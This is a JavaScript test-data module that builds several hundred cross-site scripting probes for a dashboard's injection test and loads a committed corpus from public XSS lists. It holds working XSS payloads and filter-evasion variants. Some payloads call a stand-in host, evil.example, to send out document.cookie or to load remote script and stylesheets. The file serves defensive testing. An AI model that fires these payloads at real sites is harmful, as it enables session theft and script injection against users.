// XSS probes for the dashboard's injection test: our own generator (tags × handlers × script
// bodies, URL schemes, context breakers and encodings), plus payloads taken from public XSS lists
// (PayloadsAllTheThings, SecLists; MIT) and committed as test data in e2e/data/xss-corpus.json, so
// the test runs the same on a clean clone.

import { readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

// ---- Generator: building blocks written for this test ----

const BREAKERS = ["", '">', "'>", "</title>", "</textarea>", "</script>", "--!>", "]]>", "</style>", "`;", "</noscript>", '"\'>'];
const TAGS = [
  "img src=x", "svg", "body", "details open", "video src=x", "audio src=x", "iframe src=x",
  "input autofocus", "select autofocus", "textarea autofocus", "marquee", "object data=x",
  "embed src=x", "a href=#", "math", "form", "image src=x", "picture", "style", "xss",
  "div tabindex=0 autofocus", "frameset", "svg><animate attributeName=x dur=1s", "video><source",
];
const HANDLERS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart", "onpointerenter", "onstart", "onclick", "onfocusin", "onbeforetoggle"];
const BODIES = [
  "alert(1)", "confirm`1`", "prompt(document.domain)", "print()", 'top["al"+"ert"](2)',
  'eval(atob("YWxlcnQoMyk="))', 'fetch("//evil.example/c?"+document.cookie)', "(alert)(4)",
  "window.onerror=alert;throw 5", 'import("//evil.example/x.js")', "alert?.(6)", "self[`alert`](7)",
  "setTimeout`alert\\x288\\x29`", 'location="javascript:alert(9)"', "new Function`alert\\`10\\``",
];
const SCHEMES = [
  "javascript:alert(11)", "JaVaScRiPt:alert(12)", "java\tscript:alert(13)", "&#106;avascript:alert(14)",
  " javascript:alert(15)", "vbscript:msgbox(16)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxNyk8L3NjcmlwdD4=",
  "javascript://%0aalert(18)", "jav&#x0A;ascript:alert(19)", "\u0001javascript:alert(20)", "javascript&colon;alert(21)",
];
const SCHEME_WRAPPERS = [
  (u) => `<a href="${u}">click</a>`, (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<form action="${u}"><button>go</button></form>`, (u) => `<object data="${u}"></object>`,
  (u) => `<svg><a xlink:href="${u}"><text x=1 y=1>x</text></a></svg>`, (u) => `<math><maction actiontype=statusline xlink:href="${u}">x</maction></math>`,
  (u) => `<base href="${u}//">`, (u) => `<embed src="${u}">`, (u) => u,
];
const STANDALONE = [
  "<script>alert(22)</script>", "<script src=//evil.example/x.js></script>", "<svg><script>alert(23)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(24)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(25)>\">",
  "<style>@import'//evil.example/x.css';</style>", '<meta http-equiv="refresh" content="0;url=javascript:alert(26)">',
  "<template><img src=x onerror=alert(27)></template>", "{{constructor.constructor('alert(28)')()}}", "${alert(29)}",
  "<img src=x:x onerror=alert(30)//", "<svg/onload=alert(31)//", "<scr<script>ipt>alert(32)</scr</script>ipt>",
  "<isindex type=image src=1 onerror=alert(33)>", "<xmp><img src=x onerror=alert(34)></xmp>",
  "<iframe srcdoc=\"<script>parent.alert(35)</script>\"></iframe>", "<link rel=import href=//evil.example/x.html>",
  "';alert(36)//", "\";alert(37)//", "</script><script>alert(38)</script>", "-->\"><svg onload=alert(39)>",
  "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(40)\">x</a>",
];
const ENCODINGS = [
  (s) => s,
  (s) => encodeURIComponent(s),
  (s) => encodeURIComponent(encodeURIComponent(s)),
  (s) => s.replace(/</g, "&lt;").replace(/>/g, "&gt;"),
  (s) => s.replace(/</g, "\\u003c").replace(/>/g, "\\u003e"),
  (s) => s.replace(/</g, "%3C").replace(/>/g, "%3E"),
  (s) => s.replace(/[a-z]/g, (c, i) => (i % 2 ? c.toUpperCase() : c)),
  (s) => s.replace(/</g, "＜").replace(/>/g, "＞"),
];

/** Deterministic list of at least `min` distinct probes. */
export function generateProbes(min = 260) {
  const out = new Set();
  let i = 0;
  for (const t of TAGS)
    for (const h of HANDLERS) {
      const body = BODIES[i % BODIES.length];
      const br = BREAKERS[i % BREAKERS.length];
      const q = i % 3 === 0 ? '"' : i % 3 === 1 ? "'" : "";
      out.add(`${br}<${t} ${h}=${q}${body}${q}>`);
      i++;
    }
  for (const u of SCHEMES) for (const w of SCHEME_WRAPPERS) out.add(w(u));
  for (const s of STANDALONE) out.add(s);
  const base = [...out];
  let k = 0;
  for (const enc of ENCODINGS.slice(1)) for (let j = 0; j < 12; j++) out.add(enc(base[(k++ * 7) % base.length]));
  const list = [...out];
  if (list.length < min) throw new Error(`generator made only ${list.length} probes`);
  return list;
}

// ---- Payloads from public XSS lists (committed test data) ----

const here = dirname(fileURLToPath(import.meta.url));
/** web/e2e/data/xss-corpus.json, written by e2e/data/extract-xss-corpus.mjs from the shared corpus. */
export const CORPUS_FILE = join(here, "../data/xss-corpus.json");

/** The committed corpus probes (their texts; the file also names each one's upstream list). */
export function corpusProbes(file = CORPUS_FILE) {
  const doc = JSON.parse(readFileSync(file, "utf8"));
  return doc.probes.map((p) => p.text);
}
